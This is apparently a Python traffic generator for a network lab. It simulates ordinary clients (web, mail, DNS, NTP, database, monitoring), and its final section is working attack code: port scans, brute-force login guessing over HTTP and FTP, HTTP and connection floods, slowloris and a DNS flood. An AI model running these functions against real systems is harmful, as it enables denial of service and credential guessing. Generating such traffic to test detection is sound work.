"""Clients that no ready program plays: client.py NAME SEED SOURCE SECONDS TARGET… does one thing from the address SOURCE
until SECONDS have passed. Each is a function of that name."""
import base64
import contextlib
import http.client
import random
import socket
import sys
import threading
import time

name, seed, source, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
targets = sys.argv[5:]
rnd = random.Random(seed)
end = time.time() + seconds


def going():
    return time.time() < end


def connect(host, port, timeout=3.0):
    return socket.create_connection((host, port), timeout, (source, 0))


def get(host, path, port=80, headers=None, body=None, close=True):
    c = http.client.HTTPConnection(host, port, timeout=5, source_address=(source, 0))
    more = {"User-Agent": "Mozilla/5.0 lab", **(headers or {})}
    if close:
        more["Connection"] = "close"
    c.request("POST" if body else "GET", path, body, more)
    status = c.getresponse()
    status.read()
    if close:
        c.close()
    return c


def poll():
    """An application asks for its state again and again, each time on a new connection."""
    pause = rnd.choice([0.3, 1, 2, 5])
    while going():
        get(targets[0], "/api")
        time.sleep(pause * rnd.uniform(0.8, 1.2))


def pages():
    """People read pages: some at once from several connections, then nothing for a while."""
    while going():
        host = rnd.choice(targets)
        c = get(host, "/", close=False)
        for _ in range(rnd.randrange(3, 30)):
            c.request("GET", "/asset%d.bin" % rnd.randrange(60))
            c.getresponse().read()
        threads = [threading.Thread(target=get, args=(host, "/asset%d.bin" % rnd.randrange(60)))
                   for _ in range(rnd.randrange(6))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        c.close()
        time.sleep(rnd.expovariate(0.5))


def crawl():
    """A search engine's robot: one page a connection, quickly."""
    while going():
        get(rnd.choice(targets), "/page%d.html" % rnd.randrange(40))
        time.sleep(rnd.uniform(0.02, 0.3))


def backend():
    """A reverse proxy that opens a connection for each request."""
    pause = rnd.choice([0.03, 0.1, 0.3])
    while going():
        get(targets[0], rnd.choice(["/api", "/asset%d.bin" % rnd.randrange(60), "/page%d.html" % rnd.randrange(40)]))
        time.sleep(rnd.expovariate(1 / pause))


def typist():
    """Somebody logs in, with a slip now and then."""
    while going():
        host = rnd.choice(targets)
        for password in ["wrong"] * rnd.choice([0, 0, 0, 1, 2]) + ["right"]:
            token = base64.b64encode(b"anna:" + password.encode()).decode()
            get(host, "/private/", headers={"Authorization": "Basic " + token})
            time.sleep(rnd.uniform(1, 4))
        for _ in range(rnd.randrange(2, 8)):
            get(host, "/page%d.html" % rnd.randrange(40))
            time.sleep(rnd.uniform(0.5, 3))


def monitor():
    """A monitoring system tests every service of every host; some are always down."""
    every = rnd.choice([3, 6, 10])
    checks = [(h, p) for h in targets for p in rnd.sample([22, 80, 443, 25, 3306, 21, 8080, 5432], rnd.randrange(2, 6))]
    while going():
        start = time.time()
        for host, port in checks:
            with contextlib.suppress(OSError):
                if port == 80:
                    get(host, "/api")
                else:
                    with connect(host, port, 1) as s:
                        s.settimeout(0.5)
                        s.recv(100)
        time.sleep(max(0, every - (time.time() - start)))


def database():
    """A pool of connections that live long, and some that do not."""
    def one():
        with contextlib.suppress(OSError), connect(targets[0], 3306) as s:
            for _ in range(rnd.choice([1, 3, 50, 200])):
                n = rnd.randrange(10, 600)
                s.sendall(n.to_bytes(4, "little") + bytes(n))
                s.recv(65536)
                time.sleep(rnd.expovariate(20))
                if not going():
                    return
    while going():
        threads = [threading.Thread(target=one) for _ in range(rnd.randrange(1, 30))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        time.sleep(rnd.uniform(0.5, 2))


def mail():
    """Letters of some kilobytes."""
    while going():
        with contextlib.suppress(OSError), connect(rnd.choice(targets), 25) as s:
            s.recv(100)
            for line in (b"EHLO lab", b"MAIL FROM:<a@lab>", b"RCPT TO:<b@lab>", b"DATA"):
                s.sendall(line + b"\r\n")
                s.recv(100)
            s.sendall((b"x" * 76 + b"\r\n") * rnd.randrange(5, 400) + b".\r\n")
            s.recv(100)
            s.sendall(b"QUIT\r\n")
            s.recv(100)
        time.sleep(rnd.expovariate(0.7))


def clock():
    """NTP, every few seconds instead of every few minutes."""
    while going():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((source, 0))
            s.settimeout(1)
            with contextlib.suppress(OSError):
                s.sendto(b"\x23" + bytes(39) + rnd.randbytes(8), (rnd.choice(targets), 123))
                s.recv(100)
        time.sleep(rnd.uniform(1, 6))


def lookups():
    """Bursts of DNS, as a page with many names makes them; some names do not exist."""
    while going():
        for _ in range(rnd.randrange(1, 25)):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.bind((source, 0))
                s.settimeout(1)
                label = "".join(rnd.choice("abcdefghijklmnop") for _ in range(rnd.randrange(3, 14))).encode()
                top = rnd.choice([b"lab", b"lab", b"lab", b"none"])
                with contextlib.suppress(OSError):
                    s.sendto(rnd.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label +
                             bytes([len(top)]) + top + b"\0\0" + bytes([rnd.choice([1, 28])]) + b"\0\1",
                             (rnd.choice(targets), 53))
                    s.recv(1500)
        time.sleep(rnd.expovariate(0.6))


def mistaken():
    """A program that was configured with a host or a port that is gone, and tries again with patience."""
    while going():
        with contextlib.suppress(OSError):
            connect(rnd.choice(targets), rnd.choice([8080, 9200]), 1).close()
        time.sleep(rnd.choice([1, 2, 4]))


# --- what attackers do ----------------------------------------------------------------------------

def scan(pause):
    ports = rnd.sample(range(1, 10000), 1500) + [22, 80, 443]
    rnd.shuffle(ports)
    for port in ports:
        if not going():
            return
        with contextlib.suppress(OSError):
            connect(rnd.choice(targets), port, 0.4).close()
        time.sleep(pause * rnd.uniform(0.5, 1.5))


def scan_fast():
    scan(0.01)


def scan_slow():
    scan(1.0)


def scan_patient():
    scan(4.0)


def guess(path, pause, body):
    while going():
        word = "".join(rnd.choice("abcdefghijkmnopqrstuvwxyz0123456789") for _ in range(rnd.randrange(4, 13)))
        user = rnd.choice(["admin", "root", "anna", "test"])
        with contextlib.suppress(OSError, http.client.HTTPException):
            if body:
                get(targets[0], path, body="user=%s&password=%s" % (user, word),
                    headers={"Content-Type": "application/x-www-form-urlencoded"})
            else:
                token = base64.b64encode(("%s:%s" % (user, word)).encode()).decode()
                get(targets[0], path, headers={"Authorization": "Basic " + token})
        time.sleep(pause * rnd.uniform(0.7, 1.3))


def guess_form():
    guess("/login", rnd.choice([0.05, 0.2, 0.5]), True)


def guess_basic():
    guess("/private/", rnd.choice([0.05, 0.2, 0.5]), False)


def guess_slow():
    guess("/login", 2.0, True)


def guess_ftp():
    while going():
        with contextlib.suppress(OSError), connect(targets[0], 21) as s:
            s.recv(100)
            s.sendall(b"USER admin\r\n")
            s.recv(100)
            s.sendall(b"PASS %d\r\n" % rnd.randrange(10 ** rnd.randrange(3, 9)))
            s.recv(100)
        time.sleep(rnd.uniform(0.05, 0.4))


def flood_http():
    def one():
        while going():
            with contextlib.suppress(OSError, http.client.HTTPException):
                get(targets[0], "/?%d" % rnd.randrange(10 ** 9))
            time.sleep(0.01)
    threads = [threading.Thread(target=one) for _ in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def flood_connect():
    held = []
    while going():
        with contextlib.suppress(OSError):
            held.append(connect(targets[0], 80, 1))
        if len(held) > 300:
            held.pop(0).close()
        time.sleep(0.01)


def flood_slowloris():
    held = []
    while going():
        while len(held) < 150:
            with contextlib.suppress(OSError):
                s = connect(targets[0], 80)
                s.sendall(b"GET /?%d HTTP/1.1\r\nHost: lab\r\n" % rnd.randrange(10 ** 6))
                held.append(s)
        for s in list(held):
            try:
                s.sendall(b"X-a: %d\r\n" % rnd.randrange(5000))
            except OSError:
                held.remove(s)
        time.sleep(2)


def flood_dns():
    """Random names under one domain, answers unread."""
    socks = []
    for _ in range(40):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((source, 0))
        socks.append(s)
    while going():
        label = b"%012x" % rnd.randrange(16 ** 12)
        rnd.choice(socks).sendto(rnd.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0\x0c" + label + b"\3lab\0\0\1\0\1",
                                 (targets[0], 53))
        if rnd.random() < 0.1:
            i = rnd.randrange(len(socks))
            socks[i].close()
            socks[i] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            socks[i].bind((source, 0))
        time.sleep(0.002)


globals()[name]()
